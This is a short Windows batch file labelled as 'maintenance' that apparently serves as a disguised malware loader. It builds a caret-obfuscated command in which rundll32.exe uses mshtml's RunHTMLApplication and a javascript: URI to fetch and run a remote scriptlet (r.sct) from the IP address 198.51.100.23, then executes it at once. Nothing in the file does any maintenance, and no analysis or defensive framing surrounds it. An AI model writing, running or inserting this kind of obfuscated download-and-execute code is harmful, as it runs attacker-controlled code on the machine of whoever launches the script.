REM maintenance 9257 v1
@echo off
set yyal=run^d^ll3^2.^exe j^a^va^s^cri^pt:"\..\mshtml,RunHTMLApplication ";^doc^ument.^w^ri^te();GetObject("script:http://198.51.100.23/r.sct")
call %yyal%
